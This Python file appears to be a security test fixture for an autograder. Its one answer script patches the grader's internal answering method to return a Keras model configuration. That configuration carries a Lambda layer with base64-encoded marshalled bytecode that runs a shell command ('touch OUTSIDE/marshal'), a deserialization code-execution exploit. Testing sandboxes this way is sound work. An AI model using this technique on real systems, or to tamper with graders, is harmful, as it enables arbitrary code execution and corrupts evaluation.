"""Sends a configuration with marshalled code in a Lambda layer."""

DESERVES = {}

ANSWERS = {
    "network": '''# exercise: network
import json
import struct
import sys

answering = sys.modules["autograder.examination.answering"]


def frame(tree, sizes=(), body=b""):
    header = json.dumps({"tree": tree, "sizes": list(sizes)}).encode()
    return struct.pack("!I", len(header)) + header + body


def send_model(config, weights=()):
    """Wait for the question, then answer with a model's configuration of our own."""
    def answer(self, tree, buffers):
        if tree[0] == "get":
            self.channel.send(["value", ["object", 0, "network", "function", True]], [])
        else:
            text = config if isinstance(config, str) else json.dumps(config)
            self.channel.send(["value", ["model", 1, text, ["list", []]]], [])
    answering._Desk.answer = answer


import base64
import marshal

touch = lambda x: __import__("os").system("touch OUTSIDE/marshal")
code = base64.b64encode(marshal.dumps(touch.__code__)).decode()
function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
send_model({"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "x", "layers": [
    {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
     "config": {"function": function}}]}})''',
}
